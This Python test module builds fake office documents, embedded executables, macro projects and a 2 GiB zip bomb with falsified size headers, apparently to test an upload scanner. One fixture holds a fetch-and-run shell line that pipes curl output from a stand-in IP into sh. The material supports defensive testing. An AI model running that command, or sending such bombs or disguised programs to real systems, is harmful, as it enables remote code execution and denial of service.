"""ZIP-based files for upload tests, built in the test: documents an office keeps, and the programs,
macros and zip bombs that hide in them (tiny fakes with the real signatures, nothing that runs)."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

from openpyxl import Workbook

MB = 1_048_576
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # the compound file signature (.doc, .xls, embedded objects)


def zipped(entries: dict[str, bytes | str], *, stored: tuple[str, ...] = ()) -> bytes:
    """A ZIP holding the entries in order, deflated but for those named in `stored`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 2, 9, 0, 0)), content,
                             compress_type=zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def windows_program(size: int = 0x200) -> bytes:
    """The start of a Windows executable: "MZ", e_lfanew at 0x3C pointing at "PE\\0\\0"."""
    program = bytearray(max(size, 0x100))
    program[0:4] = b"MZ\x90\x00"
    program[0x3C:0x40] = struct.pack("<I", 0x80)
    program[0x80:0x86] = b"PE\x00\x00\x4c\x01"  # and a machine type: i386
    return bytes(program)


LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACOS_PROGRAM = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
MACOS_UNIVERSAL = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 56
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 56  # class file version 65 (Java 21)
SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56


def pdf(title: str = "Minutes") -> bytes:
    return f"%PDF-1.4\n1 0 obj<</Title ({title})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".encode()


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Default Extension="png" ContentType="image/png"/>'
                 '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx(extra: dict[str, bytes | str] | None = None, *, paragraphs: int = 3, main: str = DOCX_MAIN) -> bytes:
    """A Word document laid out as Word saves one: content types, relationships, the document,
    styles, properties, a picture; plus `extra` parts."""
    body = "".join(f"<w:p><w:r><w:t>Paragraph {n}: access to the finance system was reviewed on 2 March 2026 "
                   f"and 14 accounts of leavers were disabled.</w:t></w:r></w:p>" for n in range(paragraphs))
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES.replace("{main}", main),
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       'relationships"><Relationship Id="rId1" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                             f'wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>',
        "word/styles.xml": "<w:styles/>",
        "word/_rels/document.xml.rels": "<Relationships/>",
        "word/media/image1.png": PNG,
        "docProps/core.xml": "<cp:coreProperties/>",
        "docProps/app.xml": "<Properties/>",
    }
    return zipped({**parts, **(extra or {})})


def xlsx(rows: int = 20) -> bytes:
    """A workbook as openpyxl (like Excel) writes it."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Access review"
    sheet.append(["Account", "Reviewed by", "Result", "Date"])
    for n in range(rows):
        sheet.append([f"user{n:05d}", "Security Officer", "Disabled" if n % 7 == 0 else "Kept", "2026-03-02"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odt(extra: dict[str, bytes | str] | None = None) -> bytes:
    media_type = "application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": media_type, "content.xml": "<office:document-content/>",
                   "META-INF/manifest.xml": "<manifest:manifest/>", **(extra or {})}, stored=("mimetype",))


def ole_file(*, streams: tuple[str, ...] = (), payload: bytes = b"") -> bytes:
    """A compound file as far as the scan sees it: the signature, sectors, directory entries
    (UTF-16 names) and the given payload somewhere in the middle."""
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64
                         for name in ("Root Entry", *streams))
    return OLE + b"\x00" * 504 + b"\xff" * 512 + payload + b"\x00" * 700 + directory


def packaged(name: str, content: bytes) -> bytes:
    """An Office "Package" object: a file wrapped in an Ole10Native stream, label and path first."""
    native = (struct.pack("<IH", len(content) + 64, 2) + name.encode() + b"\x00" + f"C:\\Users\\thabo\\{name}".encode()
              + b"\x00\x00\x00\x03\x00" + struct.pack("<I", len(content)) + content)
    return ole_file(streams=("\x01Ole10Native", "\x01CompObj"), payload=native)


def vba_project() -> bytes:
    return ole_file(streams=("VBA", "_VBA_PROJECT", "dir", "ThisDocument"), payload=b"Attribute VB_Name")


def gzipped(content: bytes) -> bytes:
    return gzip.compress(content, mtime=0)


def zip_of_one(name: str, packed: bytes, *, size: int, crc: int, method: int = zipfile.ZIP_DEFLATED,
               flags: int = 0) -> bytes:
    """A ZIP of one member written byte by byte, so that its headers may say what zipfile never
    writes: a size that is not the real one, an encryption flag."""
    encoded = name.encode()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, flags, method, 0, 0x5C42, crc, len(packed), size,
                        len(encoded), 0) + encoded
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, flags, method, 0, 0x5C42, crc, len(packed), size,
                          len(encoded), 0, 0, 0, 0, 0o644 << 16, 0) + encoded
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(packed), 0)
    return local + packed + central + end


def deflated_zeros(size: int) -> bytes:
    """`size` zero bytes deflated, fast: after a full flush every megabyte of zeros packs to the
    same ~1 KB, so the stream is that block repeated (2 GiB in 2 MB, built in milliseconds)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(b"\x00" * MB) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size // MB) + packer.flush()


def zip_bomb(size: int = 2048 * MB, *, name: str = "report.pdf", declared: int | None = None) -> bytes:
    """A ZIP whose one member unpacks to `size` zero bytes while its index says `declared` bytes
    (the real size unless given). The checksum is left wrong: it is never reached."""
    return zip_of_one(name, deflated_zeros(size), size=size if declared is None else declared, crc=0)
